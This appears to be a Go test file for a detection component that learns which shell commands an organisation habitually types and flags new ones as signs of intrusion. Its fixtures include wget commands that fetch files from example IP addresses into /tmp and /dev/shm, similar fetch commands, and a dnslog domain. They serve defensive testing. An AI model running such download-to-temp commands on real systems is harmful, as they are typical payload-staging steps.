package incident

import (
	"fmt"
	"testing"
	"time"

	"baize/internal/alert"
)

const download = "wget -q http://198.51.100.80/release -O /tmp/installer-1"

// TestHabitsAreNoMarks: what benign lineages typed a day ago, in whichever directory
// and under whichever name, tells nobody from anybody.
func TestHabitsAreNoMarks(t *testing.T) {
	const later = int64(25 * time.Hour)
	for name, c := range map[string]struct {
		by         Use
		taint      bool
		after      int64
		marks, key bool
	}{
		"yesterday":                           {by: Use{Host: "h1", Carrier: "login:a"}, after: later},
		"today":                               {by: Use{Host: "h1", Carrier: "login:a"}, after: int64(time.Hour), marks: true, key: true},
		"by an intruder":                      {by: Use{Host: "h1", Carrier: "login:x", Tainted: true}, after: later, marks: true},
		"by somebody who was found out since": {by: Use{Host: "h1", Carrier: "login:x"}, taint: true, after: later, marks: true},
	} {
		b := NewBaseline(1000)
		b.Typed("o", download, c.by, 0)
		b.LoggedIn("o", "h1", "SHA256:k", 0)
		if c.taint {
			b.taint(c.by.Carrier, 1)
		}
		again := "wget -q http://203.0.113.5/x -O /dev/shm/y"
		if got := b.Mark("o", again, c.after) != ""; got != c.marks {
			t.Errorf("%s: a mark: %v", name, got)
		}
		if got := !b.habitual(habitKey("o", habitOfKey, "SHA256:k"), c.after); got != c.key {
			t.Errorf("%s: the key is a mark: %v", name, got)
		}
		if b.Mark("p", again, c.after) == "" {
			t.Errorf("%s: a habit of another organisation", name)
		}
	}
}

// TestABenignLineageTakesAnothersPlace: where the first who had a habit is found out,
// the next benign one vouches for it, a day later.
func TestABenignLineageTakesAnothersPlace(t *testing.T) {
	b := NewBaseline(1000)
	b.Typed("o", download, Use{Carrier: "login:x"}, 0)
	b.taint("login:x", 1)
	hour := int64(time.Hour)
	b.Typed("o", download, Use{Carrier: "login:a"}, 10*hour)
	if b.Mark("o", download, 30*hour) == "" || b.Mark("o", download, 35*hour) != "" {
		t.Error("the second does not vouch a day after himself")
	}
}

// TestSourcesBeyondAGateway: the address from which customers come ties no two
// requests, one that is new does.
func TestSourcesBeyondAGateway(t *testing.T) {
	comes := func(m *Merger, id, from string, now int64) string {
		a := high(id, id, alert.Entity{Type: alert.EntityIP, Value: from, Role: RoleSource})
		a.Service = "S"
		a.Time = time.Unix(0, now)
		got, _ := m.Add(a, Facts{}, now)
		return got
	}
	m := New(DefaultConfig(), NewBaseline(10))
	gateway := subjectFor(t, "203.0.113.100")
	m.base.Called(gateway, 0)
	later := int64(25 * time.Hour)
	m.base.Called(gateway, later)
	m.base.Called(subjectFor(t, "203.0.113.7"), later)
	if comes(m, "a", "203.0.113.100", later) == comes(m, "b", "203.0.113.100", later+1) {
		t.Error("two who come through one gateway are one")
	}
	if comes(m, "c", "203.0.113.7", later+2) != comes(m, "d", "203.0.113.7", later+3) {
		t.Error("one who came twice is two")
	}
}

func subjectFor(t *testing.T, address string) Subject {
	t.Helper()
	s, ok := subjectOf("", &alert.Entity{Type: alert.EntityIP, Value: address})
	if !ok {
		t.Fatal(address)
	}
	return s
}

// TestOneHostPushesOutNoHabits: what a host types that types without end stays unknown
// beyond its share, and takes no place from what others are used to.
func TestOneHostPushesOutNoHabits(t *testing.T) {
	b := NewBaseline(500)
	b.Typed("o", download, Use{Host: "h1", Carrier: "a"}, 0)
	for i := range 5_000 {
		b.Typed("o", fmt.Sprintf("tool%d --fetch http://203.0.113.9/x --into /tmp/x", i), Use{Host: "h2", Carrier: "c"}, int64(i))
	}
	if b.habits.Len() > 1+500/maxShare || b.Mark("o", download, int64(25*time.Hour)) != "" {
		t.Errorf("%d habits; what was usual is a mark", b.habits.Len())
	}
}

// TestHabitsAreBoundedAndKept: a flood leaves the newest, and a restart changes no answer.
func TestHabitsAreBoundedAndKept(t *testing.T) {
	b := NewBaseline(10)
	for i := range 1000 {
		b.Typed("o", fmt.Sprintf("tool%d --fetch http://203.0.113.9/x --into /tmp/x", i), Use{Host: fmt.Sprint("h", i), Carrier: "c"}, int64(i))
		b.Called(subjectFor(t, fmt.Sprintf("203.0.%d.%d", 113+i/250, i%250)), int64(i))
	}
	if b.habits.Len() != 10 || b.callers.Len() != 10 {
		t.Errorf("%d habits, %d callers", b.habits.Len(), b.callers.Len())
	}
	b.Answered("o", "x.dnslog.cn", []string{"203.0.113.9"}, 1)
	other, kept := NewBaseline(10), b.keep()
	other.restore(&kept)
	last := "tool999 --fetch http://203.0.113.9/x --into /tmp/x"
	if later := int64(30 * time.Hour); other.Mark("o", last, later) != "" || other.Mark("o", "tool1 --fetch http://203.0.113.9/x --into /tmp/x", later) == "" {
		t.Error("habits changed over a restart")
	}
	if other.lent.Len() != 1 || other.callers.Len() != 10 {
		t.Errorf("%d lent, %d callers after a restart", other.lent.Len(), other.callers.Len())
	}
}
